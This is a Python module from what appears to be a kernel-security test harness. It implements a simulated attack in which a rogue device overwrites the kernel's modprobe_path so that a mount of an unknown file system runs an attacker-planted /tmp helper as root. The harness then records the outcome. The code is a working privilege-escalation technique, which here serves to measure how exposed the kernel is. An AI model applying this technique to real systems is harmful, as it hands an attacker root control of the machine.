# SPDX-License-Identifier: Apache-2.0
"""Change ``modprobe_path``: the kernel runs a helper of the attacker's, as root."""

from harness.devices.attacks.attack import ON_KERNEL_MEMORY, Attack, Observation
from harness.devices.attacks.context import Context
from harness.devices.attacks.judging import damage

HELPER = "/tmp/helper"
PREPARE = f"printf '#!/bin/sh\\nid -u > /tmp/ran\\n' > {HELPER}; chmod +x {HELPER}"
TRIGGER = "mount -t nosuchfilesystem none /root 2> /dev/null; cat /tmp/ran 2> /dev/null"
"""``request_module()`` waits for its helper, so the file is there afterwards or never."""


def run(context: Context) -> Observation:
    """Have the kernel look for a file system's module with our program."""
    context.sh(PREPARE)
    place = context.phys(context.types.program["modprobe_path"])
    path = HELPER.encode() + b"\0"
    context.rogue.write(place, path)
    seen = context.sh(TRIGGER)
    shown = f"the helper ran as user {seen}" if seen else "the helper did not run"
    return damage(context, place, path, seen == "0", shown)


ATTACK = Attack("has the kernel run a program as root by modprobe_path", run, ON_KERNEL_MEMORY)
